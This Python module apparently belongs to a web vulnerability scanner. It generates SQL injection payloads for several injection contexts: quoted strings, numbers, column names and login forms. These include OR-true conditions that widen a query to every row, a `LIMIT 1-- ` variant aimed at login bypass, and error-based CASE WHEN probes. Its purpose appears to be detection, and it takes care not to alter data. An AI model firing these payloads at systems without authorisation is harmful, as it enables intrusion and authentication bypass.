"""Where a value can stand in an SQL statement, and what has to be written to stay in it.

Each context has three payloads of equal length and equal words: a condition that is true, one
that is false, and one that is no SQL. A database tells them apart; a search box, a filter
against attacks or an echo cannot, because they see the same words.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from scanner import Endpoint, Number, Parameter, Word
from scanner.site.spot import Spot

TRUE, FALSE, BROKEN = range(3)

_HOLE = re.compile(r"\{ww_(\w)\}")
_WORDS_OF = {"a": 6, "b": 6, "c": 6, "d": 6, "e": 6, "w": 9}
_NUMBERS_OF = {"m": 5, "n": 5, "o": 5, "v": 9}
"""Letters or digits in each hole: equal words of equal length."""

_ONE = r"[\w.]{1,60}(?: (?:asc|desc))?"
_NAMES = re.compile(rf"{_ONE}(?: ?, ?{_ONE})*", re.I)
"""Columns to sort by or to read, or the numbers of a list."""

_UUID = re.compile(r"[0-9a-fA-F]{8}(?:-[0-9a-fA-F]{4}){3}-(?=[0-9a-fA-F]{12}$)")
_SECRET = re.compile(r"pass|pwd|\bpin\b", re.I)
_CODE = re.compile(r"token|code|key|reset|otp", re.I)
_BUTTONS = ("hidden", "submit", "button", "image", "reset")

Conditions = tuple[str, str, str]


def _conditions(quote: str, a: str, b: str, c: str) -> Conditions:
    a, b, c = (f"{quote}{{ww_{hole}}}{quote}" for hole in (a, b, c))
    return f"{a}={a} OR {b}={c}", f"{a}={b} OR {a}={c}", f"{a}={a} {b} OR ={c}"


_STRINGS = _conditions("'", "a", "b", "c")
_DOUBLE = _conditions('"', "a", "b", "c")
_NUMBERS = _conditions("", "m", "n", "o")

_OVERFLOW = "abs(-9223372036854775808)"
"""Fails in SQLite, MySQL and PostgreSQL when it is computed, and only then; elsewhere dividing
it by 0 does. In a subquery, because MySQL drops constants from ORDER BY without computing them."""


@dataclass(frozen=True, slots=True)
class Context:
    """`what` for a person; `payloads` true, false and broken.

    With `widens` the value is one that does not exist, and the true condition finds all that
    there is. Without, the true condition leaves the seen value what it is.
    """

    what: str
    payloads: Conditions
    widens: bool = False

    def payload(self, which: int, number: int) -> str:
        """The payload with holes of its own: no two requests of a proof share a word."""
        return _HOLE.sub(rf"{{ww_\g<1>{number}}}", self.payloads[which])

    def holes(self, number: int) -> tuple[Word | Number, ...]:
        """The holes of the payloads with this number."""
        names = sorted(set(_HOLE.findall("".join(self.payloads))))
        return tuple(
            Number(f"ww_{name}{number}", _NUMBERS_OF[name])
            if name in _NUMBERS_OF
            else Word(f"ww_{name}{number}", _WORDS_OF[name])
            for name in names
        )


def contexts(spot: Spot) -> list[Context]:
    """The contexts that the spot's value may stand in, the likeliest first."""
    found = [*(_widening(spot) if may_widen(spot) else ()), *_keeping(spot)]
    return sorted(found, key=lambda context: not context.widens)


def nonsense(spot: Spot) -> Context:
    """A value of the same kind that does not exist, and nothing else."""
    return Context("nothing", (_absent(spot),) * 3)


def _absent(spot: Spot) -> str:
    if spot.is_numeric:
        return "{ww_v}"
    uuid = _UUID.match(spot.value)
    return f"{uuid[0]}123{{ww_v}}" if uuid else "{ww_w}"


def _widening(spot: Spot) -> Iterator[Context]:
    """`… OR true`. The last quote is left out: the statement has its own."""
    absent = _absent(spot)

    def context(
        what: str, before: str, conditions: Conditions, after: str = "", cut: int = 1
    ) -> Context:
        true, false, broken = (f"{before}{one[: len(one) - cut]}{after}" for one in conditions)
        return Context(what, (true, false, broken), widens=True)

    yield context("a string in single quotes", f"{absent}' OR ", _STRINGS)
    if spot.is_numeric or not spot.parameter.value:
        yield context("a number", "{ww_v} OR ", _NUMBERS, cut=0)
    yield context("a string in double quotes", f'{absent}" OR ', _DOUBLE)
    yield context("a string in parentheses", f"{absent}') OR (", _STRINGS)
    if _secrets(spot.endpoint):  # logins often want exactly one row
        one_row = ") LIMIT 1-- "
        for what, end in (("single quotes", "'"), ("parentheses", "')")):
            yield context(f"a string in {what}", f"{absent}{end} OR (", _STRINGS, one_row, cut=0)


def _keeping(spot: Spot) -> Iterator[Context]:
    """The seen value where the condition is true; an error, or no row, where it is false."""
    value = spot.value
    fails = f"(SELECT {_OVERFLOW}{'%' if spot.parameter.place == 'path' else '/'}0)"
    chosen = f" THEN '' ELSE CAST({fails} AS CHAR) END"

    def context(what: str, before: str, conditions: Conditions, after: str) -> Context:
        true, false, broken = (f"{before}{one}{after}" for one in conditions)
        return Context(what, (true, false, broken))

    if "'" not in value:
        what = "a string in single quotes"
        yield context(what, f"{value}'||CASE WHEN ", _STRINGS, f"{chosen}||'")
        if not may_widen(spot):
            yield context(what, f"{value}' AND (", _STRINGS, ") AND '{ww_d}'<>'{ww_e}")
            # MySQL inserts what can be a number, and has no || for text.
            yield context(what, "1' AND CASE WHEN ", _STRINGS, f" THEN 1 ELSE {fails} END AND '1")
    if '"' not in value and not may_widen(spot):
        what = "a string in double quotes"
        yield context(what, f'{value}"||CASE WHEN ', _NUMBERS, f'{chosen}||"')
    if spot.is_numeric:
        yield context("a number", "CASE WHEN ", _NUMBERS, f" THEN {value} ELSE {fails} END")
    elif _NAMES.fullmatch(value):
        what = "a list of numbers" if value[0].isdigit() else "a name such as a column's"
        yield context(what, f"{value},CASE WHEN ", _NUMBERS, f" THEN 1 ELSE {fails} END")


def may_widen(spot: Spot) -> bool:
    """Whether a condition that fits every row can do no harm.

    It reads more where something is read: GET, a search, a login. In a statement that changes
    rows it would change all of them.
    """
    endpoint, mine = spot.endpoint, spot.parameter
    if endpoint.method == "GET":
        return True
    if endpoint.method != "POST" or mine.kind == "hidden" or _CODE.search(mine.name):
        return False
    free = [p for p in endpoint.parameters if p.kind not in _BUTTONS]
    secrets = _secrets(endpoint)
    if not secrets:
        return len(free) == 1
    return not spot.identity and len(secrets) == 1 and len(free) <= 3


def _secrets(endpoint: Endpoint) -> list[Parameter]:
    return [p for p in endpoint.parameters if p.kind == "password" or _SECRET.search(p.name)]
